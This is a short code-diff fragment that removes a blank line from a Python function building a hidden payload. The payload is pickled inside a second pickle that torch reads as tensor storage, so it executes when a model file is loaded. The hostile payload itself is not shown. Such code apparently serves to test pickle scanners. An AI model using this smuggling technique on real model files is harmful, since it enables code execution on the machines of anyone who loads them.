@@ -50,7 +50,6 @@ def hostile(target):
 
 def in_storage(target) -> object:
     """Hidden in the second pickle, which torch reads for a tensor's storage."""
-
     return Asks(torch.storage._load_from_bytes, pickle.dumps(hostile(target), protocol=2))
 
 
